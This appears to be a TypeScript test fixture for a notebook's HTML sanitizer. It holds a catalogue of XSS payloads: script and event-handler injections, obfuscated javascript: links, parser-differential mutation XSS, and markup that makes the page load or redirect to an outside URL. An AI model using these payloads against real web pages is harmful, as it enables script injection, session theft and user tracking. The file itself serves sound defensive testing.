// What a hostile notebook may bring, each as HTML that acts by itself or when clicked, in any page that shows it as it is.

/** `pwned` is set by what runs; `url` is a server that counts who comes. */
export const hostileHtml = (url: string): Record<string, string> => ({
  // Scripts.
  "a script element": "<script>pwned = 1</script>",
  "a script from elsewhere": `<script src="${url}"></script>`,
  "a module script": `<script type="module">globalThis.pwned = 1</script>`,
  "an image that fails": '<img src="no://such" onerror="pwned = 1">',
  "an image without quotes": "<img src=no://such onerror=pwned=1>",
  "an unusual separator": '<img/src="no://such"/onerror=pwned=1>',
  "an SVG that loads": '<svg onload="pwned = 1"></svg>',
  "a script inside SVG": "<svg><script>pwned = 1</script></svg>",
  "an SVG animation": '<svg><animate onbegin="pwned = 1" attributeName="x" dur="1s"></svg>',
  "a foreign object": '<svg><foreignObject><img src="no://such" onerror="pwned = 1"></foreignObject></svg>',
  "a frame with a document": '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  "a frame of javascript:": '<iframe src="javascript:parent.pwned = 1"></iframe>',
  "a frame of data:": `<iframe src="data:text/html,<script>new Image().src='${url}'</script>"></iframe>`,
  "an embedded page": `<embed src="data:text/html,<script>new Image().src='${url}'</script>">`,
  "an object": `<object data="data:text/html,<script>new Image().src='${url}'</script>"></object>`,
  "details that open": '<details open ontoggle="pwned = 1">x</details>',
  "a field that takes the focus": '<input autofocus onfocus="pwned = 1">',
  "a video that fails": '<video src="no://such" onerror="pwned = 1"></video>',
  "a source that fails": '<audio><source src="no://such" onerror="pwned = 1"></audio>',
  "a body's event": '<body onload="pwned = 1">',
  "a CSS animation":
    '<style>@keyframes x{}</style><b style="animation:x 1ms" onanimationstart="pwned = 1">x</b>',
  "a dialog": "<script>alert(1)</script>",

  // Texts that two parsers read differently.
  noscript: '<noscript><p title="</noscript><img src=no://such onerror=pwned=1>"></noscript>',
  textarea: '<textarea><p title="</textarea><img src=no://such onerror=pwned=1>"></textarea>',
  "a title":
    '<svg><title><p title="</title><img src=no://such onerror=pwned=1>"></title></svg><title></title><img src=no://such onerror=pwned=1>',
  "a comment's early end": "<!--><img src=no://such onerror=pwned=1>-->",
  "a comment's other end": "<!-- --!><img src=no://such onerror=pwned=1>-->",
  "CDATA that is none": "<![CDATA[><img src=no://such onerror=pwned=1>]]>",
  "a processing instruction": "<?x ><img src=no://such onerror=pwned=1>?>",
  "a style's end": '<style><a title="</style><img src=no://such onerror=pwned=1>"></style>',
  "an early end of the page": "</pre></code></section></main></body></html><script>pwned = 1</script>",
  "math that breaks out": '<math><mtext><img src="no://such" onerror="pwned = 1"></mtext></math>',

  // By a click.
  "a link of javascript:": '<a href="javascript:void(pwned = 1)">x</a>',
  "a link with a tab inside": '<a href="java&#9;script:void(pwned = 1)">x</a>',
  "a link with a control before": '<a href="&#1;javascript:void(pwned = 1)">x</a>',
  "a link inside SVG": '<svg><a xlink:href="javascript:void(pwned = 1)"><text y="9">x</text></a></svg>',
  "a form of javascript:": '<form action="javascript:void(pwned = 1)"><button>x</button></form>',
  "a button's own action": '<form><button formaction="javascript:void(pwned = 1)">x</button></form>',
  "a map": '<map name="m"><area href="javascript:void(pwned = 1)" shape="default"></map><img usemap="#m">',
  "a click's event": '<button onclick="pwned = 1">x</button>',
  "a form that posts": `<form action="${url}" method="post" target="_blank"><button>x</button></form>`,
  "a ping": `<a href="#here" ping="${url}">x</a>`,

  // Loads.
  "a picture": `<img src="${url}">`,
  "a set of pictures": `<img srcset="${url} 1x">`,
  "a picture's source": `<picture><source srcset="${url}"><img></picture>`,
  "a poster": `<video poster="${url}"></video>`,
  "a video": `<video src="${url}" preload="auto"></video>`,
  "a sound": `<audio src="${url}" preload="auto"></audio>`,
  "a frame": `<iframe src="${url}"></iframe>`,
  "an object from elsewhere": `<object data="${url}"></object>`,
  "an embedding": `<embed src="${url}">`,
  "a style sheet": `<link rel="stylesheet" href="${url}">`,
  "a preload": `<link rel="preload" as="image" href="${url}">`,
  "a prefetch": `<link rel="prefetch" href="${url}">`,
  "an import": `<style>@import "${url}";</style>`,
  "a background": `<p style="background: url('${url}')">x</p>`,
  "a background in escapes": `<p style="background: \\75 rl('${url}')">x</p>`,
  "a set of backgrounds": `<p style="background: image-set('${url}' 1x)">x</p>`,
  "a bullet": `<ul><li style="list-style-image: url('${url}')">x</ul>`,
  "a mask": `<p style="mask-image: url('${url}')">x</p>`,
  "a border": `<p style="border: 9px solid; border-image: url('${url}') 9">x</p>`,
  "a table's background": `<table background="${url}"><tr><td>x</td></tr></table>`,
  "a button that is a picture": `<input type="image" src="${url}">`,
  "an image inside SVG": `<svg><image href="${url}" width="9" height="9"/></svg>`,
  "an image inside SVG, the old way": `<svg><image xlink:href="${url}" width="9" height="9"/></svg>`,
  "a filter's image": `<svg width="9" height="9"><filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  "a style inside SVG": `<svg><style>@import "${url}";</style></svg>`,
  "a base": `<base href="${url}/"><img src="x.png">`,

  // Goes elsewhere.
  "a refresh": `<meta http-equiv="refresh" content="0; url=${url}">`,
});

/** What no policy can forbid a page: there the sanitizer alone stands. */
export const beyondPolicy = new Set(["a refresh"]);
